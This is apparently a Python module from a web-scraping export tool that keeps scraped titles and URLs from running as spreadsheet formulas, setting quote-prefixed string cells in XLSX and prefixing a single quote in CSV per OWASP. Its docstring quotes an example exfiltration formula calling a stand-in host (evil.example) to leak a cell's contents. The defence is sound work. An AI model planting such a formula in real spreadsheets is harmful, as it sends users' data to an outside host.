"""Spreadsheet cells that never run what a website or a Facebook post put in them.

Titles, bylines and URLs come from the site and from Facebook: anyone who can post can write
a title such as ``=HYPERLINK("http://evil.example/?leak="&A1,"x")``. openpyxl stores any string
that starts with ``=`` as a formula, and a spreadsheet program may treat text that starts with
``+``, ``-``, ``@``, a tab or a carriage return as one when the cell is edited. Following
OWASP's advice on CSV injection:

* in XLSX the text is kept exactly as the site shows it, stored as a string cell
  (``data_type = "s"``) with Excel's *quote prefix* style, which shows it as typed text and
  keeps it text when someone edits the cell;
* in CSV, where there is no cell type, such text is prefixed with a single quote.

Every XLSX writer of the tool puts its values through :func:`set_value` (or
:func:`append_row`), and every CSV writer through :func:`csv_text`. Control characters (which
no one sees, and which XML, so XLSX and DOCX, cannot hold) are dropped by :func:`xml_text`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# What a spreadsheet may read as the start of a formula (OWASP: CSV injection).
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


# C0 control characters XML 1.0 cannot hold (tab, line feed and carriage return it can)
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xml_text(text: str) -> str:
    """``text`` without the control characters an XLSX or DOCX cannot hold."""
    return _CONTROL.sub("", text)


def is_dangerous(text) -> bool:
    """True when ``text`` is a string a spreadsheet could take for a formula."""
    return isinstance(text, str) and text.startswith(DANGEROUS_START)


def set_value(cell, value):
    """Put ``value`` in an openpyxl cell; text is always text, never a formula."""
    if isinstance(value, str):
        # a string cell as it is (openpyxl's own setter would take "=..." for a formula, and
        # checks again for the control characters xml_text drops)
        value = xml_text(value)
        if len(value) > 32767:
            value = value[:32767]  # a cell's limit
        cell._value = value
        cell.data_type = "s"
        if value.startswith(DANGEROUS_START):
            cell.quotePrefix = True
        return cell
    cell.value = value
    return cell


def append_row(ws, values: Iterable) -> int:
    """Append one row to a worksheet through :func:`set_value`; returns its row number."""
    row = ws.max_row + 1 if ws.max_row > 1 or ws.cell(1, 1).value is not None else 1
    for col, value in enumerate(values, start=1):
        set_value(ws.cell(row=row, column=col), value)
    return row


def csv_text(value):
    """A value for a CSV field: dangerous text gets OWASP's leading single quote."""
    if is_dangerous(value):
        return "'" + value
    return value
